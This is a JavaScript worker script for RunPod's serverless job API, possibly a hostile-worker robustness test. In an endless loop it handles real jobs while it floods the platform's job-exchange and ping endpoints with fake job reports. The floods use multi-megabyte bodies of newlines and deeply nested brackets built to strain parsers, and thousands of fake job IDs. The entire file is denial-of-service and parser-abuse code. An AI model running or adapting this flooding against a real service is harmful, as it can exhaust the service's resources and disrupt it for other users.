/** Reports as many jobs that do not exist as fit into a request, again and again, while it does its own jobs. */
const env = process.env;
const headers = { authorization: env.RUNPOD_AI_API_KEY };
const exchange = `${env.RUNPOD_WEBHOOK_PING.replace("/ping/", "/job-exchange/")}&take=0`;
const repeated = (text, bytes) => text.repeat(bytes / text.length);

const floods = [
  { body: repeated("a 1 {}\n", 256 * 1024) },
  { body: repeated("a 1 {}\n", 60_000) },
  { body: repeated("\n", 8 * 1024 * 1024) },
  { body: repeated('a 1 {"output":[[],[],[],[]]}\n', 200_000) },
  { body: `a 1 ${repeated("[", 8 * 1024 * 1024)}\n` },
  { ping: Array.from({ length: 5000 }, (_, i) => i.toString(36)).join(",") },
];

async function send({ body, ping }) {
  const url = ping ? `${env.RUNPOD_WEBHOOK_PING}&job_id=${ping}` : exchange;
  return (await fetch(url, { method: ping ? "GET" : "POST", headers, body })).status;
}

for (;;) {
  const response = await fetch(env.RUNPOD_WEBHOOK_GET_JOB, { headers });
  if (response.status !== 200) continue;
  const { id } = await response.json();
  const output = await Promise.all(floods.map(send));
  const done = { method: "POST", headers, body: JSON.stringify({ output }) };
  await fetch(env.RUNPOD_WEBHOOK_POST_OUTPUT.replace("$ID", id), done);
}
